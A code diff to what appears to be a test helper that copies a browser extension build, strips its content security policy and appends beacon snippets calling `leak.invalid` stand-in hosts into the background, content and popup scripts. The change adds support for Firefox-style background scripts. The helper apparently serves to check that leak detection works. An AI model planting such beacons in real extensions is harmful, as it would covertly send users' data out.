@@ -31,19 +31,21 @@ const POPUP_STYLE = `html { background-image: url("https://popup-style.leak.inva
 const POPUP_SCRIPT = `navigator.sendBeacon('https://popup-beacon.leak.invalid/x', 'x');`;
 
 const manifestSchema = z.looseObject({
-  background: z.looseObject({ service_worker: z.string() }),
+  /** Chromium has a worker, Firefox a page of scripts. */
+  background: z.looseObject({ service_worker: z.string().optional(), scripts: z.array(z.string()).min(1).optional() }).refine(({ scripts, service_worker: worker }) => (scripts === undefined) !== (worker === undefined)),
   content_scripts: z.array(z.looseObject({ js: z.array(z.string()).min(1) })).min(1),
   content_security_policy: z.unknown().optional(),
 });
 
-/** Copies a Chromium build to `target` without its content security policy and with all nine leaks. */
+/** Copies a build to `target` without its content security policy and with all nine leaks. */
 export function plantLeaks(build: string, target: string): void {
   rmSync(target, { recursive: true, force: true });
   cpSync(build, target, { recursive: true });
   const manifest = manifestSchema.parse(JSON.parse(readFileSync(join(target, 'manifest.json'), 'utf8')));
   delete manifest.content_security_policy;
   writeFileSync(join(target, 'manifest.json'), JSON.stringify(manifest));
-  append(join(target, manifest.background.service_worker), IN_WORKER);
+  const { background } = manifest;
+  for (const script of background.scripts ?? [background.service_worker ?? '']) append(join(target, script), IN_WORKER);
   for (const { js } of manifest.content_scripts) append(join(target, js[0] ?? ''), IN_CONTENT);
   const popup = readdirSync(target).find((name) => name === 'popup.html');
   if (popup === undefined) throw new Error(`${build} has no popup.html to plant leaks in.`);
